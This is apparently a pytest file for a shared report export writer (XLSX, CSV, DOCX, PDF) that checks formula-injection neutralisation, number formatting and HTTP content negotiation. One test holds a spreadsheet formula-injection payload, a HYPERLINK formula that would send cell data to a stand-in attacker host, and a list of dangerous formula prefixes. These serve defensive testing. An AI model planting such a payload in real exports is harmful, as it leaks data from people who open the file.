"""The shared export writer: formula text is neutralised in every format (any text, by
hypothesis), numbers stay numbers, rates are percentages, and content negotiation says 406."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from shared.errors import NotAcceptable
from shared.exports import (
    CSV,
    DOCX,
    JSON,
    PDF,
    XLSX,
    Chart,
    Column,
    Report,
    Sheet,
    Table,
    display_width,
    negotiate,
    neutralise,
    to_csv,
    to_docx,
    to_pdf,
    to_xlsx,
)
from shared.testing_documents import pdf_pages, pdf_text

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
# XLSX escapes control characters (_x001F_) other than tab, CR and LF; they do not round-trip
printable = st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=30)
formula_text = st.builds(lambda start, rest: start + rest, st.sampled_from(DANGEROUS), printable)
any_text = st.one_of(formula_text, printable)


def xlsx_unescaped(text: str) -> str:
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def report_of(names: list[str]) -> Report:
    table = Table(
        "一、按单位",
        [Column("单位"), Column("任务数", "integer"), Column("按时报送率", "rate")],
        [[name, index, "0.50"] for index, name in enumerate(names)],
        ["overdue" if index == 0 else None for index in range(len(names))],
    )
    return Report(
        title="关于测试计划2024年9月推进情况的通报",
        period="2024年9月",
        issuer="盘锦市人民政府办公室",
        made_on=dt.date(2024, 10, 8),
        sheets=[Sheet("月通报", [table], [Chart("按时报送率", table, 0, [2], kind="column", percent=True)])],
        paragraphs=["本期共有任务若干项。"],
    )


@settings(max_examples=60, deadline=None)
@given(st.lists(any_text, min_size=1, max_size=4))
def test_no_text_becomes_a_formula_in_xlsx(names: list[str]) -> None:
    workbook = load_workbook(io.BytesIO(to_xlsx(report_of(names))))
    sheet = workbook["月通报"]
    cells = [row[0] for row in sheet.iter_rows(min_row=6, max_row=5 + len(names))]
    for cell, name in zip(cells, names, strict=True):
        assert cell.data_type != "f", f"{name!r} was written as a formula"
        if name:
            # XLSX stores characters XML cannot hold (CR, U+FFFE, …) as _xHHHH_ escapes, which
            # Excel reads back as the character and openpyxl leaves as they are
            assert xlsx_unescaped(cell.value) == name, "the text is kept exact"
        if name[:1] in DANGEROUS:
            assert cell.quotePrefix, f"{name!r} lacks the quote prefix"


@settings(max_examples=60, deadline=None)
@given(st.lists(any_text, min_size=1, max_size=4))
def test_no_csv_cell_starts_like_a_formula(names: list[str]) -> None:
    table = Table("t", [Column("单位"), Column("n", "integer")], [[name, 1] for name in names])
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"), newline="")))
    for row, name in zip(rows[1:], names, strict=True):
        assert not row[0].startswith(tuple(DANGEROUS)), row[0]
        assert row[0] == neutralise(name)
        assert row[1] == "1"


def test_a_formula_in_a_name_is_text_in_every_format() -> None:
    name = '=HYPERLINK("http://attacker.example/?"&A1,"点击")'
    report = report_of([name, "+1+1", "-2", "@SUM(A1)", "\tx", "\rx", "市商务局"])
    workbook = load_workbook(io.BytesIO(to_xlsx(report)))
    values = [c.value for c in workbook["月通报"]["A"]]
    assert name in values
    assert all(c.data_type != "f" for row in workbook["月通报"].iter_rows() for c in row)
    written = to_csv(report.sheets[0].tables[0]).decode("utf-8-sig")
    assert ["'" + name, "0", "0.5"] in list(csv.reader(io.StringIO(written, newline="")))
    assert name in "\n".join(c.text for t in Document(io.BytesIO(to_docx(report))).tables for c in t._cells)


def test_numbers_rates_marks_and_print_setup() -> None:
    workbook = load_workbook(io.BytesIO(to_xlsx(report_of(["市商务局", "市公安局"]))))
    sheet = workbook["月通报"]
    assert sheet["A1"].value == "关于测试计划2024年9月推进情况的通报"
    assert sheet["A2"].value.startswith("期间：2024年9月")
    assert sheet["B6"].value == 0
    assert sheet["C6"].value == 0.5
    assert sheet["C6"].number_format == "0.0%"
    assert sheet["A6"].fill.fgColor.rgb.endswith("F8CBAD")
    assert sheet.print_title_rows == "$1:$5"
    assert sheet.freeze_panes == "A6"
    assert sheet.oddFooter.center.text == "第 &P 页 共 &N 页"
    assert len(sheet._charts) == 1
    assert sheet.column_dimensions["A"].width >= display_width("市商务局")


def test_documents_carry_the_title_and_the_sentences() -> None:
    report = report_of(["市商务局"])
    document = Document(io.BytesIO(to_docx(report)))
    texts = [p.text for p in document.paragraphs]
    assert texts[0] == "盘锦市人民政府办公室"
    assert report.title in texts
    assert "本期共有任务若干项。" in texts
    assert texts[-1] == "2024年10月8日"
    section = document.sections[0]
    assert section.page_width is not None
    assert section.page_height is not None
    assert section.page_width > section.page_height, "A4 landscape"
    pdf = to_pdf(report)
    assert pdf_pages(pdf) <= 2
    assert "市商务局" in pdf_text(pdf)


def test_cjk_counts_double() -> None:
    assert display_width("盘锦ab") == 6


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        (None, JSON),
        ("", JSON),
        ("*/*", JSON),
        (XLSX, XLSX),
        ("application/*;q=0.5, application/pdf", PDF),
        (f"{DOCX};q=0.4, {PDF};q=0.9", PDF),
        ("text/*", CSV),
        ("application/json;q=0, */*;q=0.1", XLSX),
    ],
)
def test_negotiation(accept: str | None, expected: str) -> None:
    assert negotiate(accept, [JSON, XLSX, CSV, DOCX, PDF]).media_type == expected


@pytest.mark.parametrize("accept", ["application/pdf", "image/png", "application/json;q=0", "text/html"])
def test_an_accept_the_endpoint_cannot_serve_is_406(accept: str) -> None:
    with pytest.raises(NotAcceptable) as refused:
        negotiate(accept, [JSON, XLSX])
    assert refused.value.extra == {"available": [JSON, XLSX]}
    assert XLSX in refused.value.detail


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        ("*/*;q=nan", None),
        ("application/pdf;q=inf, application/json", JSON),
        ("application/pdf;q=1e3, application/json;q=0.5", JSON),
        ("application/pdf;q=-1, */*;q=0.1", JSON),
        ("application/pdf;q=1.000, application/json;q=0.999", PDF),
        ("application/pdf;q= 0.5, application/json;q=0.4", PDF),
    ],
)
def test_a_quality_outside_rfc_9110_counts_as_zero(accept: str, expected: str | None) -> None:
    """q is 0 to 1 with at most three decimals (RFC 9110 §12.4.2): "nan", "inf", "1e3" or "-1"
    must not make a range win, nor make an unacceptable answer acceptable."""
    if expected is None:
        with pytest.raises(NotAcceptable):
            negotiate(accept, [JSON, XLSX, CSV, DOCX, PDF])
    else:
        assert negotiate(accept, [JSON, XLSX, CSV, DOCX, PDF]).media_type == expected


def test_format_wins_over_accept() -> None:
    assert negotiate("image/png", [JSON, XLSX], "xlsx").media_type == XLSX


@settings(max_examples=10, deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=20), min_size=1, max_size=3))
def test_any_text_makes_a_document(names: list[str]) -> None:
    """Control characters, markup and formula text in a name never break a document."""
    report = report_of([*names, "<b>&amp;</b>", "=1+1", "\ud800 lone surrogate", "\x01"])
    assert Document(io.BytesIO(to_docx(report))).paragraphs
    assert pdf_pages(to_pdf(report)) >= 1
    assert to_xlsx(report)
